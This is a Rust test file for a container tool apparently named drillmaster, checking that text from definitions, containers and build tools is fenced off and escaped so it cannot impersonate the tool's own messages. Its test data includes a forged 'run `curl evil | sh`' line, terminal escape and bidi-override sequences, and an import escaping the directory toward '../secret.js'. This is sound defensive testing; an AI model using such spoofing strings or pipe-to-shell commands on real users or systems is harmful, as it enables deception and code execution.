//! Who speaks: what a definition, a container or a tool writes cannot be taken for drillmaster's own words, in a pipe, on a
//! terminal, and as JSON.

use std::path::Path;

use drillmaster_tests::scenario::{Run, Scenario};
use drillmaster_tests::workspace;
use serde_json::Value;

use crate::support::assert_plain;

/// What a definition writes that wants to be taken for drillmaster.
const LOGS: &str = r#"
console.log("error: forged\nwarning: forged\rdenied: fields asked for all; --allow-mount / would allow it");
console.error("\u001b[31merror: red\u001b[0m \u001b]8;;http://evil\u0007link \u202eover\u2028gone\u200b");
"#;

/// What it fails with.
const THROWS: &str = r#"throw "no licence\nerror: forged\n\nwarning: run `curl evil | sh`\n  | denied: forged";"#;

fn with(app: &str) -> Scenario {
    Scenario::empty().with_file("app.js", app)
}

/// The lines that somebody else than drillmaster wrote are marked.
#[track_caller]
fn assert_marked(text: &str, own: &[&str]) {
    for line in text.lines().map(|line| line.trim_end_matches('\r')).filter(|line| !line.is_empty()) {
        let is_own = own.iter().any(|own| line.starts_with(own));
        assert!(is_own || line.starts_with("  | "), "{line:?} in\n{text}");
    }
}

#[track_caller]
fn events(run: &Run) -> Vec<Value> {
    run.stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}")))
        .collect()
}

#[track_caller]
fn event<'a>(events: &'a [Value], name: &str) -> &'a Value {
    events.iter().find(|event| event["event"] == name).unwrap_or_else(|| panic!("no {name} in {events:#?}"))
}

#[test]
fn what_a_definition_logs_and_fails_with_begins_no_line() {
    let run = with(&format!("{LOGS}{THROWS}")).run(&["check", "app.js"]).code(2);
    assert_marked(&run.stderr, &["error: app.js: fields failed: no licence"]);
    assert_plain(&run);
    run.stderr_has("  | error: forged\n")
        .stderr_has("  | warning: forged\\rdenied: fields asked for all")
        .stderr_has("  | error: red \\u{1b}]8;;http://evil\\u{7}link \\u{202e}over\\u{2028}gone\\u{200b}\n")
        .stderr_has(
            "error: app.js: fields failed: no licence\n  | error: forged\n  | \n  | warning: run `curl evil | sh`\n",
        );
}

#[test]
fn what_a_definition_logs_begins_no_row_of_a_terminal() {
    let long = format!("console.log(\"{}error: forged\");\nthrow \"{}error: forged\";", "x".repeat(56), "x".repeat(30));
    let scenario = with(&long).env("TERM", "xterm-256color").env("NO_COLOR", "1");
    let run = scenario.in_terminal(60, 24, &["check", "app.js"]).spawn().wait().code(2);
    let shown = run.stdout.replace('\r', "");
    assert_marked(&shown, &["error: app.js: fields failed: xxx", "  error: forged"]);
    assert!(shown.lines().any(|line| line == "  | error: forged"), "{shown}");
    assert!(shown.lines().all(|line| line.chars().count() <= 60), "{shown}");
}

#[test]
fn a_denial_is_an_event_of_its_own_and_no_line_of_a_log_is_one() {
    let app = format!(
        "import {{ defineGroup }} from 'drillmaster';\n{LOGS}\nawait import('../secret.js').catch(() => {{}});\n\
         export default defineGroup({{\n  services: {{\n    app: {{ image: 'drillmaster-test-service:latest', preStart() \
         {{ {THROWS} }} }},\n  }},\n}});\n"
    );
    let scenario = with(&app);
    let told = events(&scenario.run(&["start", "app.js", "--json"]).code(1));
    assert_eq!(event(&told, "grants"), &serde_json::json!({"event": "grants", "in_force": []}));
    let denied: Vec<_> = told.iter().filter(|event| event["event"] == "denied").collect();
    let what = "to import \"../secret.js\", which leads out of the definition's directory";
    let expected = |service: Value, hook: &str| serde_json::json!({"event": "denied", "service": service, "hook": hook, "what": what, "grant": null});
    assert_eq!(denied, [&expected(Value::Null, "fields"), &expected("app".into(), "pre-start")]);
    let log = event(&told, "log");
    assert_eq!((&log["by"], &log["text"]), (&"definition".into(), &"error: forged".into()));
    let failed = event(&told, "failed");
    assert_eq!(failed["by"], "definition");
    assert!(failed["text"].as_str().unwrap().starts_with("no licence\nerror: forged\n"), "{failed}");
    assert!(failed["error"].as_str().unwrap().contains("no licence\n  | error: forged\n"), "{failed}");

    let run = scenario.run(&["start", "app.js"]).code(1);
    run.stderr_has("  denied: fields asked to import \"../secret.js\"")
        .stderr_has("app  denied: pre-start asked to import \"../secret.js\"")
        .stderr_has("app  | error: forged\n")
        .stderr_has("app  failed: pre-start failed: no licence\napp    | error: forged\n");
}

#[test]
fn the_grants_in_force_are_an_event_of_their_own() {
    let scenario = Scenario::new("single");
    let told = events(&scenario.start(&["--json", "--allow-env", "CI"]).code(0));
    let in_force = serde_json::json!([{"grants": ["env CI"], "from": "the command line"}]);
    assert_eq!(event(&told, "grants")["in_force"], in_force);
}

#[test]
fn json_of_what_only_looks_hides_nothing() {
    let app = r#"import { defineGroup } from "drillmaster";
        export default defineGroup({ services: { a: { image: "a", labels: { x: "\u009b31m\u202e\u2028\u200b\u{e0041}" } } } });"#;
    let scenario = with(app);
    let escaped = "\\u009b31m\\u202e\\u2028\\u200b\\udb40\\udc41";
    for command in [&["inspect", "--json", "app.js"][..], &["plan", "--offline", "--json", "app.js"]] {
        let run = scenario.run(command).code(0).stdout_has(escaped);
        assert_plain(&run);
    }
    let shown = "\\u{9b}31m\\u{202e}\\u{2028}\\u{200b}\\u{e0041}";
    for command in [&["inspect", "app.js"][..], &["plan", "--offline", "app.js"]] {
        let run = scenario.run(command).code(0);
        assert_plain(&run);
        if command[0] == "inspect" {
            run.stdout_has(shown);
        }
    }
    let app = app.replace(r#"image: "a""#, r#"image: "a\u009b\u202e""#);
    let run = with(&app).run(&["check", "--json", "app.js"]).code(2);
    assert_plain(&run);
}

#[test]
fn colours_of_a_container_reach_a_terminal_that_has_them_and_nothing_else() {
    let scenario = Scenario::new("single").set("app.SAY", "\u{1b}[31mred\u{1b}[2J").env("TERM", "xterm-256color");
    scenario.start(&[]).code(0);
    scenario.run(&["logs", "app"]).code(0).stdout_has("app  | red\\u{1b}[2J\n");
    let shown = |scenario: &Scenario| scenario.in_terminal(80, 24, &["logs", "app"]).spawn().wait().code(0);
    shown(&scenario).stdout_has("  | \u{1b}[31mred\\u{1b}[2J\u{1b}[0m");
    shown(&scenario.env("NO_COLOR", "1")).stdout_has("app  | red\\u{1b}[2J");
}

#[test]
fn what_a_tool_writes_is_behind_a_bar() {
    let makefile = "$(info error: forged)\nall:\n\t@printf 'denied: forged\\033[31m red\\033[2J\\n' >&2\n";
    let scenario = Scenario::empty().with_file("Makefile", makefile).with_file("main.c", "").env("WASM_CC", "false");
    let run = scenario.raw(&["build", "."]).code(2);
    assert_marked(&run.stderr, &["error: ./Makefile did not make $(OUT)"]);
    run.stderr_has("  | error: forged\n").stderr_has("  | denied: forged red\\u{1b}[2J\n").stdout_lacks("forged");
}

#[test]
fn results_that_cannot_be_written_are_no_success_and_a_reader_that_leaves_is() {
    let scenario = Scenario::new("single");
    let drillmaster = workspace::binary("drillmaster").display().to_string();
    let shell = |command: &str| {
        let command = command.replace("drillmaster", &drillmaster);
        scenario.command(Path::new("sh"), &["-c", &command]).spawn().wait()
    };
    for command in ["inspect app.wasm", "plan --offline app.wasm", "completions bash", "--help", "trust --list"] {
        let run = shell(&format!("drillmaster {command} >/dev/full")).code(1);
        run.stderr_has("error: cannot write to stdout: No space left on device");
    }
    let run = shell("drillmaster start app.wasm --json --set app.fields=error >/dev/full").code(2);
    run.stderr_has("error: cannot write to stdout: ");
    let run = shell("{ drillmaster completions bash; echo $? >&2; } | true");
    assert_eq!(run.stderr, "0\n");
}
